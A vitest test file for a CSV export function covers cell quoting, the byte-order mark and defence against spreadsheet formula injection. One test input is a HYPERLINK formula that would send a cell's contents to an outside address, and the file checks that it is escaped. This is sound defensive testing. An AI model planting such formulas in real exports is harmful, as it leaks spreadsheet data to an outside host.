import { expect, test } from 'vitest'
import { toCsv } from './csv'

test('cells are quoted where necessary, and the file says how it is encoded', () => {
  expect(toCsv([['Name', 'Note'], ['attic', 'dry'], ['cellar, old', 'a "wet" one'], ['two\nlines', 'x\r']])).toBe(
    '\uFEFFName,Note\r\nattic,dry\r\n"cellar, old","a ""wet"" one"\r\n"two\nlines","x\r"\r\n')
})

test.each([
  ['=HYPERLINK("http://192.0.2.1/"&A1)', '"\'=HYPERLINK(""http://192.0.2.1/""&A1)"'],
  ['+358 40', "'+358 40"], ['-cmd', "'-cmd"], ['@sum', "'@sum"], ['\tx', "'\tx"], ['-81', '-81'], ['+1.5', '+1.5'], ['-81,5', '"-81,5"'], ['a=b', 'a=b'], ["'=x", "''=x"],
])('%s is not taken for a formula', (cell, written) => {
  expect(toCsv([[cell]])).toBe(`\uFEFF${written}\r\n`)
})

test('a number is written as it is', () => expect(toCsv([[-3, 0, 1.5]])).toBe('\uFEFF-3,0,1.5\r\n'))
